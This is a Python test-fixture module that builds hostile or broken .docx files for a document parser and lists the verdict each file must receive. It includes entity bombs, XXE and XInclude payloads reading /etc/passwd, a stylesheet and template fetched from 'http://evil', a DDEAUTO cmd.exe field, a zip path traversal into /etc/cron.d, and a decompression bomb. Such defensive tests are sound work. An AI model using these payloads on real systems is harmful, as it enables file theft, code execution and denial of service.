"""Word documents made to harm or broken by accident, each built here from nothing, with the verdict it must get."""

from collections.abc import Callable

from hostile.hostile_files import BROKEN, DATA, TOO_MUCH, UNSAFE, Hostile, deflated, one_of, overlapping, zip_of
from reading.docx_maker import docx, docx_parts, p, pack, r, tbl, tc, tr

READ = one_of("read")
FORM = tbl(
    tr("项目名称", tc("科技", span=3)),
    tr("主管部门", "某局", "实施单位", "某所"),
    tr("三级指标", "年度指标值", "实际完成值", "得分"),
    tr("培训人次", "≥10.00(人)", "12.00(人)", "90.00"),
    tr("总分", "100.00", "90.00", "优"),
)
"""A short form, to stand beside what is to be survived."""
NO_FORM = one_of("not_a_form")
MAIN, LINKS = "word/document.xml", "word/_rels/document.xml.rels"
DOCTYPE = "<!DOCTYPE w:document [{}]>"


def around(body: str, **more: str) -> Callable[[], bytes]:
    """A document with a form after something hostile."""
    return lambda: docx(body + FORM, **more)


def with_parts(changed: dict[str, str | bytes], body: str = FORM, **more: str) -> Callable[[], bytes]:
    """A document with a form and some parts changed or added."""
    return lambda: pack(docx_parts(body, **more) | changed)


def linked(kind: str, target: str, *, outside: bool = False) -> dict[str, str | bytes]:
    """The main part's links: one of a kind to a target."""
    mode = ' TargetMode="External"' if outside else ""
    return {
        LINKS: f'<Relationships><Relationship Id="x" Type="http://a/{kind}" Target="{target}"{mode}/></Relationships>'
    }


def nested(times: int, before: str, middle: str, after: str) -> str:
    """Something inside itself so many times."""
    return before * times + middle + after * times


def entity_bomb(inner: str) -> Callable[[], bytes]:
    """A document that declares entities and uses one in its text."""
    text = str(docx_parts(FORM.replace("科技", "&a9;" * 1000))[MAIN])
    return with_parts({MAIN: DOCTYPE.format(inner) + text})


def utf16_doctype() -> bytes:
    """A document type in UTF-16, where its letters are not those of ASCII."""
    text = DOCTYPE.format('<!ENTITY a9 "x">') + str(docx_parts(FORM)[MAIN])
    return with_parts({MAIN: text.encode("utf-16")})()


def many_runs() -> bytes:
    """A paragraph of a million runs, and a form."""
    return docx(f"<w:p>{''.join(f'<w:r><w:t>{number}</w:t></w:r>' for number in range(1_000_000))}</w:p>{FORM}")


def styles_in_a_ring() -> str:
    """Two styles based on one another."""
    return "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>'
        for one, other in ("ab", "ba")
    )


def huge_numbering() -> str:
    """Twenty thousand lists, each counting from near the largest number, in letters and Roman digits."""
    level = '<w:lvl w:ilvl="{}"><w:start w:val="999999999"/><w:numFmt w:val="{}"/><w:lvlText w:val="{}"/></w:lvl>'
    levels = level.format(0, "upperRoman", "%1" * 50) + level.format(1, "upperLetter", "%9%8%2")
    lists = "".join(f'<w:num w:numId="{n}"><w:abstractNumId w:val="1"/></w:num>' for n in range(1, 20_000))
    return f'<w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>{lists}'


def numbered(level: int) -> str:
    """A numbered paragraph."""
    return p("条", properties=f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="7"/></w:numPr>')


def bomb(megabytes: int) -> bytes:
    """A document whose only part is declared and is so large."""
    return zip_of({MAIN: b"<a>" + b" " * (megabytes * 1024 * 1024), "word/x": deflated(b"a", 1)})


def loop_of_notes() -> dict[str, str]:
    """A footnote whose text refers to itself."""
    mark = '<w:r><w:footnoteReference w:id="1"/></w:r>'
    return {"footnotes": f'<w:footnote w:id="1">{p("注", mark)}</w:footnote>'}


BOX = "<w:r><w:pict><v:textbox><w:txbxContent>{}</w:txbxContent></v:textbox></w:pict></w:r>"
SDT = ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>")
FIELD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'

DOCX_FILES: dict[str, Hostile] = {
    "docx: XML of deep nesting": Hostile(around(f"<w:p>{nested(9_999, '<w:r>', '', '</w:r>')}</w:p>"), BROKEN),
    "docx: content controls in one another": Hostile(around(nested(110, SDT[0], p("a"), SDT[1])), READ),
    "docx: content controls without end": Hostile(around(SDT[0] * 50_000), BROKEN),
    "docx: tables in tables": Hostile(
        around(nested(40, "<w:tbl><w:tr><w:tc>", "<w:p/>", "</w:tc></w:tr></w:tbl>")), UNSAFE
    ),
    "docx: text boxes in one another": Hostile(
        around(f"<w:p>{nested(40, BOX.partition('{}')[0] + '<w:p>', r('a'), '</w:p>' + BOX.partition('{}')[2])}</w:p>"),
        READ,
    ),
    "docx: five thousand text boxes": Hostile(around(f"<w:p>{BOX.format(p('盒')) * 5_000}</w:p>"), UNSAFE),
    "docx: a span of a thousand million": Hostile(around(tbl(tr(tc("甲", span=10**9), "乙"))), READ),
    "docx: spans that are no numbers": Hostile(
        around(tbl(tr(*(tc(more=f'<w:gridSpan w:val="{span}"/>') for span in ("-5", "x", "", "9" * 99, "1e9", "٣"))))),
        READ,
    ),
    "docx: rows that begin far to the right": Hostile(
        around(tbl(tr("甲", properties='<w:gridBefore w:val="999999999"/><w:gridAfter w:val="999999999"/>'))), READ
    ),
    "docx: merges that continue nothing": Hostile(
        around(tbl(*(tr(tc("甲", merge="continue"), tc(more="<w:hMerge/>")) for _ in range(99)))), READ
    ),
    "docx: merges that cross": Hostile(
        around(
            tbl(tr(tc("甲", span=3, merge="restart")), tr("乙", tc(merge="continue", span=9)), tr(tc(merge="continue")))
        ),
        READ,
    ),
    "docx: rows without cells": Hostile(around(tbl(*["<w:tr/>"] * 5_000)), READ),
    "docx: a table of too many cells": Hostile(
        lambda: docx(tbl(*[f"<w:tr>{'<w:tc/>' * 500}</w:tr>"] * 401)), one_of("too_large")
    ),
    "docx: a million runs": Hostile(many_runs, one_of("too_large")),
    "docx: a text beyond the limit": Hostile(
        lambda: docx(p("a" * 999) * 33_000 + FORM), one_of("too_large", "expands_too_much")
    ),
    "docx: one paragraph of nine megabytes": Hostile(
        lambda: docx(p("项目" * 1_500_000) + FORM), READ | TOO_MUCH | {"not_a_form"}
    ),
    "docx: nested entities": Hostile(
        entity_bomb('<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))),
        UNSAFE,
    ),
    "docx: quadratic entities": Hostile(entity_bomb(f'<!ENTITY a9 "{"a" * 50_000}">'), UNSAFE),
    "docx: an external entity": Hostile(entity_bomb('<!ENTITY a9 SYSTEM "file:///etc/passwd">'), UNSAFE),
    "docx: a document type in UTF-16": Hostile(utf16_doctype, UNSAFE),
    "docx: a document type in the styles": Hostile(
        with_parts({"word/styles.xml": "<!DOCTYPE a><a/>"}, styles=""), UNSAFE
    ),
    "docx: an entity that is not declared": Hostile(lambda: docx(p("&nothing;") + FORM), BROKEN),
    "docx: XInclude of a file": Hostile(
        around(p('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')),
        READ,
    ),
    "docx: a style sheet by instruction": Hostile(
        lambda: pack(
            docx_parts(FORM) | {MAIN: '<?xml-stylesheet href="http://evil/x.xsl"?>' + str(docx_parts(FORM)[MAIN])}
        ),
        READ,
    ),
    "docx: pictures and templates from outside": Hostile(
        with_parts(linked("attachedTemplate", "http://evil/x.dotm", outside=True)), READ
    ),
    "docx: an altChunk": Hostile(
        with_parts(linked("aFChunk", "x.html") | {"word/x.html": "<script>"}, FORM + "<w:altChunk/>"), READ
    ),
    "docx: an embedded object": Hostile(
        with_parts({"word/embeddings/oleObject1.bin": b"MZ" + bytes(999)}, p("<w:r><w:object/></w:r>") + FORM), READ
    ),
    "docx: macros": Hostile(with_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(999)}), READ),
    "docx: a DDE field": Hostile(
        around(
            p(
                FIELD.format("begin"),
                r'<w:r><w:instrText>DDEAUTO c:\\cmd.exe "/k calc"</w:instrText></w:r>',
                FIELD.format("end"),
            )
        ),
        READ,
    ),
    "docx: ten thousand fields that begin": Hostile(around(p(FIELD.format("begin") * 10_000)), NO_FORM | READ),
    "docx: fields that end before they begin": Hostile(
        around(p(FIELD.format("end") * 999, FIELD.format("separate"))), READ
    ),
    "docx: styles based on one another": Hostile(
        around(p("甲", properties='<w:pStyle w:val="a"/>'), styles=styles_in_a_ring()), READ
    ),
    "docx: lists without end": Hostile(around((numbered(0) + numbered(1)) * 500, numbering=huge_numbering()), READ),
    "docx: a list style that links to itself": Hostile(
        around(
            numbered(0),
            styles='<w:style w:styleId="s"><w:pPr><w:numPr><w:numId w:val="7"/></w:numPr></w:pPr></w:style>',
            numbering='<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s"/></w:abstractNum>'
            '<w:num w:numId="7"><w:abstractNumId w:val="1"/></w:num>',
        ),
        READ,
    ),
    "docx: a footnote that refers to itself": Hostile(
        around(p("文", '<w:r><w:footnoteReference w:id="1"/></w:r>'), **loop_of_notes()), READ
    ),
    "docx: a header that is the document": Hostile(
        with_parts(linked("header", "document.xml"), FORM + '<w:sectPr><w:headerReference r:id="x"/></w:sectPr>'), READ
    ),
    "docx: links in a ring": Hostile(
        with_parts(linked("styles", "document.xml") | {"_rels/.rels": "<Relationships/>"}), READ
    ),
    "docx: a main part that is outside": Hostile(
        with_parts(
            {
                "_rels/.rels": '<Relationships><Relationship Type="/officeDocument" Target="../../etc/passwd"/>'
                "</Relationships>"
            }
        ),
        BROKEN,
    ),
    "docx: no content types": Hostile(with_parts({"[Content_Types].xml": "no"}), READ),
    "docx: no main part": Hostile(lambda: zip_of({"word/styles.xml": b"<a/>"}), BROKEN),
    "docx: no body": Hostile(with_parts({MAIN: "<document/>"}), BROKEN),
    "docx: not XML": Hostile(with_parts({MAIN: "hello"}), BROKEN),
    "docx: wrong bytes for its encoding": Hostile(
        with_parts({MAIN: str(docx_parts(FORM)[MAIN]).encode("gb18030")}), BROKEN
    ),
    "docx: a made up encoding": Hostile(
        with_parts({MAIN: '<?xml version="1.0" encoding="x-none"?>' + str(docx_parts(FORM)[MAIN])}), BROKEN
    ),
    "docx: cut off": Hostile(with_parts({MAIN: str(docx_parts(FORM)[MAIN])[:-20]}), BROKEN),
    "docx: 50 MB of blanks": Hostile(lambda: bomb(50), TOO_MUCH | one_of("too_large")),
    "docx: parts on the same bytes": Hostile(
        lambda: overlapping().replace(b"xl/", b"wd/"), UNSAFE | TOO_MUCH | one_of("unsupported_format")
    ),
    "docx: a part outside": Hostile(with_parts({"../../etc/cron.d/x": b""}), UNSAFE),
    "docx: a part twice": Hostile(with_parts({"word/Document.xml": b"<a/>"}), UNSAFE),
    "docx: without a form": Hostile(lambda: docx(p("午餐菜单") + tbl(tr("一", "二"))), NO_FORM),
    "docx: only pictures": Hostile(
        lambda: docx('<w:p><w:r><w:drawing><a:blip r:embed="x"/></w:drawing></w:r></w:p>'), one_of("scan_without_text")
    ),
    "docx: a form behind it all": Hostile((DATA / "forms7.docx").read_bytes, READ),
}
"""Name → file. Each gets its verdict in time; "read" means that the form beside the harm is read all the same."""
